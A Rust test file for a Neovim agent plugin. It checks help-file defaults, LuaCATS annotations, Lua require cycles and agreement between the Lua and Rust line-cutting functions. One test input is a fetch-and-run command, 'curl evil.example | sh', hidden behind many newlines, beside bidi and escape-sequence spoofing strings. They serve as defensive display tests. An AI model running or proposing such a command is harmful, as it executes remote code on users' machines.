//! The Lua side's own checks, run in a real Neovim: the defaults `:help agent-config` prints are
//! the config module's (so the two cannot drift), and the public API carries its LuaCATS
//! annotations. The checks themselves are Lua, in tests/lua/checks.lua.

use rmpv::Value;

use crate::support::nvim::{Nvim, Options};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");

/// Runs the check `name` of tests/lua/checks.lua with `arg`; returns the problems it reports.
async fn lua_check(name: &str, arg: &str) -> Vec<String> {
    let nvim = Nvim::start(Options {
        ui: None,
        env: vec![],
        setup: String::new(),
    })
    .await;
    let path = format!("{ROOT}/tests/lua/checks.lua");
    let found = nvim
        .lua(
            "local path, name, arg = ...; return dofile(path)[name](arg)",
            vec![Value::from(path), Value::from(name), Value::from(arg)],
        )
        .await;
    let Value::Array(items) = found else {
        panic!("check {name} returned {found:?}, not a list of problems");
    };
    items
        .iter()
        .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_string))
        .collect()
}

#[tokio::test]
async fn help_defaults_are_the_config_modules_defaults_key_for_key() {
    let problems = lua_check("help_defaults", ROOT).await;
    assert!(
        problems.is_empty(),
        "doc/agent.txt and lua/agent/config.lua disagree:\n{}",
        problems.join("\n")
    );
}

#[tokio::test]
async fn public_lua_functions_carry_luacats_annotations() {
    for module in [
        "lua/agent/init.lua",
        "lua/agent/command.lua",
        "lua/agent/pickers.lua",
        "lua/agent/context/ask.lua",
        "lua/agent/config.lua",
        "lua/agent/chat/init.lua",
        "lua/agent/rpc/init.lua",
        "lua/agent/text.lua",
        "lua/agent/paths.lua",
        "lua/agent/context/init.lua",
        "lua/agent/context/format.lua",
        "lua/agent/slash.lua",
        "lua/agent/cmp/shared.lua",
    ] {
        let problems = lua_check("annotations", &format!("{ROOT}/{module}")).await;
        assert!(
            problems.is_empty(),
            "missing annotations:\n{}",
            problems.join("\n")
        );
    }
}

/// The checks above must be able to fail: fed a help file whose defaults differ from the config
/// module's, the defaults check names the key.
#[tokio::test]
async fn help_defaults_check_reports_a_drifted_value_and_a_missing_key() {
    let dir = tempfile::tempdir().unwrap();
    let help = std::fs::read_to_string(format!("{ROOT}/doc/agent.txt")).unwrap();
    let drifted = help
        .replacen("max_turns = 40,", "max_turns = 41,", 1)
        .replacen("      shell = nil,", "      -- shell = nil,", 1);
    assert_ne!(
        help, drifted,
        "the help no longer has the lines this test changes"
    );
    std::fs::create_dir(dir.path().join("doc")).unwrap();
    std::fs::write(dir.path().join("doc/agent.txt"), drifted).unwrap();
    std::fs::create_dir_all(dir.path().join("lua/agent")).unwrap();
    std::fs::copy(
        format!("{ROOT}/lua/agent/config.lua"),
        dir.path().join("lua/agent/config.lua"),
    )
    .unwrap();
    let problems = lua_check("help_defaults", dir.path().to_str().unwrap()).await;
    assert!(
        problems
            .iter()
            .any(|p| p.contains("`max_turns`") && p.contains("41")),
        "{problems:?}"
    );
    assert!(
        problems
            .iter()
            .any(|p| p.contains("`shell`") && p.contains("missing from :help agent-config")),
        "{problems:?}"
    );
}

/// Fed a module whose public function lost its annotations, the annotations check names it.
#[tokio::test]
async fn annotations_check_reports_a_missing_param_and_return() {
    let dir = tempfile::tempdir().unwrap();
    let module = dir.path().join("m.lua");
    std::fs::write(
        &module,
        "local M = {}\n\n--- Adds.\nfunction M.add(a, b)\n  local f = function()\n    return 0\n  end\n  return a + b\nend\n\n--- Nothing back.\n---@param x string\nfunction M.quiet(x)\n  vim.schedule(function()\n    return x\n  end)\nend\n\nreturn M\n",
    )
    .unwrap();
    let problems = lua_check("annotations", module.to_str().unwrap()).await;
    let expected = [
        "M.add: parameter `a` has no",
        "M.add: parameter `b` has no",
        "M.add returns a value but has no `---@return",
    ];
    for text in expected {
        assert!(
            problems.iter().any(|p| p.contains(text)),
            "{text}: {problems:?}"
        );
    }
    assert_eq!(problems.len(), expected.len(), "{problems:?}");
}

/// The modules each Lua file under `root/lua` requires (`require("agent…")`, wherever it is
/// called: at load time or lazily inside a function), by module name.
fn require_graph(
    root: &std::path::Path,
) -> std::collections::BTreeMap<String, std::collections::BTreeSet<String>> {
    fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                files(&path, out);
            } else if path.extension().is_some_and(|e| e == "lua") {
                out.push(path);
            }
        }
    }
    let lua = root.join("lua");
    let mut paths = Vec::new();
    files(&lua, &mut paths);
    let mut graph = std::collections::BTreeMap::new();
    for path in paths {
        let rel = path.strip_prefix(&lua).unwrap().with_extension("");
        let name = rel.to_str().unwrap().replace('/', ".");
        let name = name.strip_suffix(".init").unwrap_or(&name).to_string();
        let text = std::fs::read_to_string(&path).unwrap();
        // A module naming itself (an option set to `v:lua.require'this'.fn`) is no cycle.
        let needs = required(&text)
            .into_iter()
            .filter(|m| (m == "agent" || m.starts_with("agent.")) && *m != name)
            .collect();
        graph.insert(name, needs);
    }
    graph
}

/// The modules a Lua source requires: `require("m")`, `require('m')` or `require "m"` in code,
/// not in comments or strings (a small lexer: comments, quoted and long strings, names).
fn required(text: &str) -> Vec<String> {
    #[derive(PartialEq)]
    enum Token {
        Name(String),
        Str(String),
        Other(char),
    }
    let chars: Vec<char> = text.chars().collect();
    // The end of a long bracket opening at `i` (`[[`, `[==[`): the index after it, and its level.
    let long_open = |i: usize| -> Option<(usize, usize)> {
        let mut j = i + 1;
        while chars.get(j) == Some(&'=') {
            j += 1;
        }
        (chars.get(i) == Some(&'[') && chars.get(j) == Some(&'[')).then_some((j + 1, j - i - 1))
    };
    let long_close = |from: usize, level: usize| -> usize {
        let close: String = std::iter::once(']')
            .chain(std::iter::repeat_n('=', level))
            .chain(std::iter::once(']'))
            .collect();
        let rest: String = chars[from..].iter().collect();
        rest.find(&close).map_or(chars.len(), |at| {
            from + rest[..at].chars().count() + level + 2
        })
    };
    let mut tokens = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '-' && chars.get(i + 1) == Some(&'-') {
            i = match long_open(i + 2) {
                Some((body, level)) => long_close(body, level),
                None => (i..chars.len())
                    .find(|&j| chars[j] == '\n')
                    .unwrap_or(chars.len()),
            };
        } else if c == '"' || c == '\'' {
            let mut j = i + 1;
            let mut value = String::new();
            while j < chars.len() && chars[j] != c {
                if chars[j] == '\\' {
                    j += 1;
                }
                if let Some(&ch) = chars.get(j) {
                    value.push(ch);
                }
                j += 1;
            }
            tokens.push(Token::Str(value));
            i = j + 1;
        } else if let Some((body, level)) = long_open(i) {
            let end = long_close(body, level);
            tokens.push(Token::Str(
                chars[body..end.saturating_sub(level + 2).max(body)]
                    .iter()
                    .collect(),
            ));
            i = end;
        } else if c.is_alphanumeric() || c == '_' {
            let mut j = i;
            while j < chars.len() && (chars[j].is_alphanumeric() || chars[j] == '_') {
                j += 1;
            }
            tokens.push(Token::Name(chars[i..j].iter().collect()));
            i = j;
        } else {
            if !c.is_whitespace() {
                tokens.push(Token::Other(c));
            }
            i += 1;
        }
    }
    let mut modules = Vec::new();
    // An option's value names a module too: `foldtext = "v:lua.require'agent.chat.fold'..."`.
    for token in &tokens {
        let Token::Str(value) = token else { continue };
        for (at, _) in value.match_indices("v:lua.require") {
            let rest = value[at + "v:lua.require".len()..].trim_start_matches('(');
            let Some(quote) = rest.chars().next().filter(|q| *q == '\'' || *q == '"') else {
                continue;
            };
            if let Some(name) = rest[1..].split(quote).next() {
                modules.push(name.to_string());
            }
        }
    }
    for (at, token) in tokens.iter().enumerate() {
        if *token != Token::Name("require".into()) {
            continue;
        }
        let arg = match (tokens.get(at + 1), tokens.get(at + 2)) {
            (Some(Token::Other('(')), Some(Token::Str(m))) | (Some(Token::Str(m)), _) => m,
            _ => continue,
        };
        modules.push(arg.clone());
    }
    modules
}

/// A cycle in `graph`, as the modules along it, or None.
fn require_cycle(
    graph: &std::collections::BTreeMap<String, std::collections::BTreeSet<String>>,
) -> Option<Vec<String>> {
    fn visit(
        graph: &std::collections::BTreeMap<String, std::collections::BTreeSet<String>>,
        module: &str,
        stack: &mut Vec<String>,
        done: &mut std::collections::BTreeSet<String>,
    ) -> Option<Vec<String>> {
        if let Some(at) = stack.iter().position(|m| m == module) {
            let mut cycle = stack[at..].to_vec();
            cycle.push(module.to_string());
            return Some(cycle);
        }
        if !done.insert(module.to_string()) {
            return None;
        }
        stack.push(module.to_string());
        for next in graph.get(module).into_iter().flatten() {
            if let Some(cycle) = visit(graph, next, stack, done) {
                return Some(cycle);
            }
        }
        stack.pop();
        None
    }
    let mut done = std::collections::BTreeSet::new();
    graph
        .keys()
        .find_map(|module| visit(graph, module, &mut Vec::new(), &mut done))
}

#[test]
fn no_lua_module_requires_one_that_requires_it_back() {
    let graph = require_graph(std::path::Path::new(ROOT));
    assert!(graph.contains_key("agent.chat") && graph.contains_key("agent.rpc.wire"));
    assert!(graph["agent.rpc"].contains("agent.rpc.wire"), "{graph:?}");
    assert_eq!(require_cycle(&graph), None, "{graph:#?}");
}

#[test]
fn requires_are_read_from_code_only() {
    let source = "local a = require(\"agent.a\")\n\
        -- require('agent.comment')\n\
        --[[ require('agent.long_comment') ]]\n\
        local s = \"fix it in require('agent.string')\" .. [[require('agent.long')]]\n\
        local function f() return require 'agent.b' end\n\
        local c = require('agent.c').x\n";
    assert_eq!(required(source), ["agent.a", "agent.b", "agent.c"]);
}

/// The check above can fail: a lazy require inside a function closes a cycle it names.
#[test]
fn a_lazy_require_cycle_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let lua = dir.path().join("lua/agent/chat");
    std::fs::create_dir_all(&lua).unwrap();
    std::fs::write(
        dir.path().join("lua/agent/init.lua"),
        "local M = {}\nfunction M.open() require('agent.chat').open() end\nreturn M\n",
    )
    .unwrap();
    std::fs::write(
        lua.join("init.lua"),
        "local M = {}\nfunction M.key() require(\"agent\").stop() end\nreturn M\n",
    )
    .unwrap();
    let cycle = require_cycle(&require_graph(dir.path()));
    assert_eq!(
        cycle,
        Some(vec![
            "agent".to_string(),
            "agent.chat".to_string(),
            "agent".to_string()
        ])
    );
}

/// A module named in an option's value (`v:lua.require'm'`) counts as required: a window
/// option that calls the module that made the window is a cycle too.
#[test]
fn a_require_in_an_option_value_is_part_of_the_graph() {
    let dir = tempfile::tempdir().unwrap();
    let lua = dir.path().join("lua/agent/chat");
    std::fs::create_dir_all(&lua).unwrap();
    std::fs::write(
        lua.join("window.lua"),
        "local M = {}\nM.opts = { foldtext = \"v:lua.require'agent.chat.render'.foldtext()\" }\nreturn M\n",
    )
    .unwrap();
    std::fs::write(
        lua.join("render.lua"),
        "local window = require(\"agent.chat.window\")\nreturn {}\n",
    )
    .unwrap();
    let cycle = require_cycle(&require_graph(dir.path()));
    assert_eq!(
        cycle,
        Some(vec![
            "agent.chat.render".to_string(),
            "agent.chat.window".to_string(),
            "agent.chat.render".to_string()
        ])
    );
}

/// The chat's status line cuts a command as the backend cuts a label (`display::cut`): between
/// escapes and markers, never inside one. The two are checked against each other on lines that
/// put an escape or a marker across the cut.
#[tokio::test]
async fn the_lua_cut_and_the_backends_cut_agree() {
    use agent_nvim::display::{cut, one_line};
    let nvim = Nvim::start(Options {
        ui: None,
        env: vec![],
        setup: String::new(),
    })
    .await;
    let lines = [
        "short".to_string(),
        one_line("echo \u{202e}abc\u{202c} and then some more words here"),
        one_line(&format!("echo hi{}curl evil.example | sh", "\n".repeat(40))),
        one_line("printf '\u{1b}[31mred\u{1b}[0m'; \r tail of the line that is long"),
        one_line("naïve café — ünïcödé text that goes on well past the width"),
        format!("{}\\u{{200b}}rest", "x".repeat(37)),
    ];
    for max in [10, 20, 40] {
        for line in &lines {
            let lua = nvim
                .lua(
                    "local line, max = ...; return require('agent.text').cut(line, max)",
                    vec![Value::from(line.as_str()), Value::from(max as u64)],
                )
                .await;
            assert_eq!(
                lua.as_str(),
                Some(cut(line, max).as_str()),
                "{line:?} cut to {max}"
            );
        }
    }
}

/// A line of megabytes is cut as its start would be: only its first units are looked at (the
/// status line cut a 50 MB command every second, copying the rest of it for each character).
#[tokio::test]
async fn the_lua_cut_of_a_huge_line_is_the_cut_of_its_start() {
    use agent_nvim::display::cut;
    let nvim = Nvim::start(Options {
        ui: None,
        env: vec![],
        setup: String::new(),
    })
    .await;
    let huge = format!("echo {}", "\\u{202e}x".repeat(2_000_000));
    for (max, cells) in [(10, false), (60, true), (200, false)] {
        let lua = nvim
            .lua(
                "local line, max, cells = ...; return require('agent.text').cut(line, max, cells)",
                vec![
                    Value::from(huge.as_str()),
                    Value::from(max as u64),
                    Value::from(cells),
                ],
            )
            .await;
        assert_eq!(lua.as_str(), Some(cut(&huge, max).as_str()), "cut to {max}");
    }
}

/// `agent.text.split` is `vim.split(s, "\n", { plain = true })` at a fraction of its cost, and
/// `lines` with an indent indents every line but the empty ones.
#[tokio::test]
async fn the_lua_split_is_vim_split_and_lines_indent_all_but_empty_lines() {
    let nvim = Nvim::start(Options {
        ui: None,
        env: vec![],
        setup: String::new(),
    })
    .await;
    let problems = nvim
        .lua(
            r#"local text = require('agent.text')
               local problems = {}
               for _, s in ipairs({ "", "\n", "\n\n", "a", "a\n", "\na", "a\nb", "a\n\nb\n", "é\n\tx \n" }) do
                 local want = vim.split(s, "\n", { plain = true })
                 if not vim.deep_equal(text.split(s), want) then
                   problems[#problems + 1] = ("split %q: %s"):format(s, vim.inspect(text.split(s)))
                 end
               end
               local got = text.lines("one\r\n\r\n  two\nthree\n\n\n", "  ")
               if not vim.deep_equal(got, { "  one", "", "    two", "  three" }) then
                 problems[#problems + 1] = "lines: " .. vim.inspect(got)
               end
               if not vim.deep_equal(text.lines("x\n", nil), { "x" }) or #text.lines(vim.NIL) ~= 0 then
                 problems[#problems + 1] = "lines without an indent"
               end
               return problems"#,
            vec![],
        )
        .await;
    assert_eq!(problems, Value::Array(vec![]));
}
